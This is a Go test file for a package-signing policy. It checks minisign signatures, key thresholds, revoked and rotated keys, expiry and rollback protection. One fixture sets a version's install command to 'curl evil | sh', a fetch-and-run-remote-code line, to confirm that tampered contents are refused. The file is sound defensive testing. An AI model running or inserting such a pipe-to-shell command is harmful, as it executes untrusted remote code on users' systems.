package sign

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vmapp/vmapp/errs"
	"github.com/vmapp/vmapp/sign/minisign"
)

var (
	keyA, keyB, keyC = testKey("A"), testKey("B"), testKey("C")
	keyR             = testKey("R (revoked)")
	keyX             = testKey("X (untrusted)")
	keyOld           = testKey("Old (rotated to A)")
)

func mustSign(t *testing.T, k minisign.PrivateKey, st Statement) minisign.Signature {
	t.Helper()
	s, err := Sign(k, st, vectorTime)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// testPolicy trusts A, B and C; Old was rotated to A; R is revoked.
func testPolicy(threshold int) Policy {
	return Policy{
		Keys:      []minisign.PublicKey{keyA.Public(), keyB.Public(), keyC.Public()},
		Threshold: threshold,
		Retired:   []Rotation{{Old: keyOld.Public(), New: keyA.Public()}},
		Revoked:   []minisign.PublicKey{keyR.Public()},
	}
}

// TestCheck is the policy's table: who signed what, the threshold, the
// highest sequence installed and the time (injected) → accepted, or the
// reason it is refused.
func TestCheck(t *testing.T) {
	now := time.Date(2027, 1, 1, 12, 0, 0, 0, time.UTC)
	v := func(change func(v *Version)) *Version {
		x := minimalVersion()
		x.Sequence = 5
		if change != nil {
			change(x)
		}
		return x
	}
	base := v(nil)
	other := v(func(x *Version) { x.Version, x.Sequence = "1.0.1", 6 })
	tampered := v(func(x *Version) { x.Install = "curl evil | sh" })
	expiring := v(func(x *Version) { x.Expires = now.Add(time.Second) })
	expired := v(func(x *Version) { x.Expires = now })
	rollback := v(func(x *Version) { x.Rollback, x.Expires = true, now.Add(time.Hour) })
	expiredRollback := v(func(x *Version) { x.Rollback, x.Expires = true, now })
	invalid := v(func(x *Version) { x.Install = "" })

	sig := func(k minisign.PrivateKey, st Statement) minisign.Signature { return mustSign(t, k, st) }
	editedComment := sig(keyA, base)
	editedComment.TrustedComment += " (edited)"
	relabeled := sig(keyA, base) // A's signature presented as B's
	relabeled.KeyID = keyB.ID
	sigs := func(s ...minisign.Signature) []minisign.Signature { return s }

	for _, c := range []struct {
		name      string
		threshold int
		v         *Version
		sigs      []minisign.Signature
		highest   uint64
		want      Reason // 0: accepted
		says      string
	}{
		{"signed by a trusted key", 0, base, sigs(sig(keyA, base)), 0, 0, ""},
		{"threshold 1", 1, base, sigs(sig(keyC, base)), 0, 0, ""},
		{"no signature", 1, base, nil, 0, Unsigned, "no signature"},
		{"untrusted key", 1, base, sigs(sig(keyX, base)), 0, UntrustedKey, "key " + keyX.ID.String() + " is not trusted"},
		{"revoked key", 1, base, sigs(sig(keyR, base)), 0, Revoked, "key " + keyR.ID.String() + " is revoked"},
		{"retired key", 1, base, sigs(sig(keyOld, base)), 0, UntrustedKey, "was replaced by key " + keyA.ID.String()},
		{"another version", 1, base, sigs(sig(keyA, other)), 0, SignatureInvalid, "signed another statement: version default/g1/app/1.0.1 sequence 6"},
		{"tampered install command", 1, tampered, sigs(sig(keyA, base)), 0, SignatureInvalid, "with other contents"},
		{"edited trusted comment", 1, base, sigs(editedComment), 0, SignatureInvalid, "bad trusted-comment signature"},
		{"relabeled signature", 1, base, sigs(relabeled), 0, SignatureInvalid, "bad signature"},
		{"invalid statement", 1, invalid, sigs(sig(keyA, base)), 0, SignatureInvalid, "install is required"},
		{"one good of several", 1, base, sigs(sig(keyX, base), sig(keyA, other), sig(keyB, base)), 0, 0, ""},

		{"threshold 2: two keys", 2, base, sigs(sig(keyA, base), sig(keyB, base)), 0, 0, ""},
		{"threshold 2: one key", 2, base, sigs(sig(keyA, base)), 0, Unsigned, "1 of the 2 trusted signatures needed"},
		{"threshold 2: one key twice", 2, base, sigs(sig(keyA, base), sig(keyA, base)), 0, Unsigned, "1 of the 2"},
		{"threshold 2: one key under two ids", 2, base, sigs(sig(keyA, base), relabeled), 0, SignatureInvalid, "1 of the 2"},
		{"threshold 2: and an untrusted key", 2, base, sigs(sig(keyA, base), sig(keyX, base)), 0, UntrustedKey, "1 of the 2"},
		{"threshold 2: and a bad signature", 2, base, sigs(sig(keyA, base), sig(keyB, other), sig(keyX, base)), 0, SignatureInvalid, "1 of the 2"},
		{"threshold 2: and a revoked key", 2, base, sigs(sig(keyA, base), sig(keyB, other), sig(keyR, base)), 0, Revoked, "1 of the 2"},
		{"threshold 3: all three", 3, base, sigs(sig(keyC, base), sig(keyB, base), sig(keyA, base)), 0, 0, ""},

		{"expires in a second", 1, expiring, sigs(sig(keyA, expiring)), 0, 0, ""},
		{"expires now", 1, expired, sigs(sig(keyA, expired)), 0, Expired, "expired at 2027-01-01T12:00:00Z"},
		{"expired and unsigned", 1, expired, nil, 0, Unsigned, "no signature"},
		{"expired, by an untrusted key", 1, expired, sigs(sig(keyX, expired)), 0, UntrustedKey, "not trusted"},
		{"same sequence as installed", 1, base, sigs(sig(keyA, base)), 5, 0, ""},
		{"higher sequence", 1, base, sigs(sig(keyA, base)), 4, 0, ""},
		{"lower sequence", 1, base, sigs(sig(keyA, base)), 6, Rollback, "sequence 5 is below 6"},
		{"intended rollback", 1, rollback, sigs(sig(keyA, rollback)), 6, 0, ""},
		{"intended rollback, expired", 1, expiredRollback, sigs(sig(keyA, expiredRollback)), 6, Expired, "expired"},
		{"rollback flag forged", 1, rollback, sigs(sig(keyA, base)), 6, SignatureInvalid, "with other contents"},
	} {
		err := testPolicy(c.threshold).Check(c.v, c.sigs, c.highest, now)
		if c.want == 0 {
			if err != nil {
				t.Errorf("%s: refused: %v", c.name, err)
			}
			continue
		}
		if ReasonOf(err) != c.want || !errs.Is(err, errs.PermissionDenied) || !strings.Contains(err.Error(), c.says) {
			t.Errorf("%s: %v; want %v saying %q", c.name, err, c.want, c.says)
		}
	}
}

// TestMinisignSignedStatement: a statement signed by minisign itself (its
// own trusted comment, no subject) is accepted, and refused for another
// version as a bad signature.
func TestMinisignSignedStatement(t *testing.T) {
	if _, err := exec.LookPath("minisign"); err != nil {
		t.Skip("minisign is not on PATH (apt-get install minisign)")
	}
	dir := t.TempDir()
	k := testKey("vmapp test key")
	v := fullVersion()
	b, err := v.Encode()
	if err != nil {
		t.Fatal(err)
	}
	st := filepath.Join(dir, "st")
	if err := os.WriteFile(st, b, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("minisign", "-S", "-s", "testdata/test.key", "-m", st).CombinedOutput()
	if err != nil {
		t.Fatalf("minisign -S: %v\n%s", err, out)
	}
	s, err := minisign.ReadSignatureFile(st + ".minisig")
	if err != nil {
		t.Fatal(err)
	}
	p, err := NewPolicy(1, k.Public())
	if err != nil {
		t.Fatal(err)
	}
	now := v.Expires.Add(-time.Hour)
	if err := p.Check(v, []minisign.Signature{s}, 0, now); err != nil {
		t.Errorf("minisign's signature: %v", err)
	}
	v.Version = "9.9.9"
	if err := p.Check(v, []minisign.Signature{s}, 0, now); ReasonOf(err) != SignatureInvalid || !strings.Contains(err.Error(), "did not sign this message") {
		t.Errorf("minisign's signature over another version: %v", err)
	}
}

// TestNewPolicy refuses what could not work or would count a key twice.
func TestNewPolicy(t *testing.T) {
	a := keyA.Public()
	aAsB := minisign.PublicKey{ID: keyB.ID, Key: a.Key}
	for _, c := range []struct {
		name, field string
		threshold   int
		keys        []minisign.PublicKey
	}{
		{"no keys", "keys", 1, nil},
		{"threshold above the keys", "threshold", 3, []minisign.PublicKey{a, keyB.Public()}},
		{"negative threshold", "threshold", -1, []minisign.PublicKey{a}},
		{"one id twice", "keys[1]", 1, []minisign.PublicKey{a, a}},
		{"one key under two ids", "keys[1]", 2, []minisign.PublicKey{a, aAsB}},
		{"a key too short", "keys[0]", 1, []minisign.PublicKey{{ID: a.ID, Key: a.Key[:16]}}},
	} {
		if _, err := NewPolicy(c.threshold, c.keys...); !errs.Is(err, errs.InvalidArgument) || errs.FieldOf(err) != c.field {
			t.Errorf("%s: %v (field %q)", c.name, err, errs.FieldOf(err))
		}
	}
	p := testPolicy(1)
	p.Keys = append(p.Keys, keyR.Public())
	if err := p.Validate(); err == nil || !strings.Contains(err.Error(), "trusted and revoked") {
		t.Errorf("a revoked key trusted: %v", err)
	}
	p = testPolicy(1)
	p.Keys = append(p.Keys, keyOld.Public())
	if err := p.Validate(); err == nil || !strings.Contains(err.Error(), "trusted and retired") {
		t.Errorf("a retired key trusted: %v", err)
	}
}
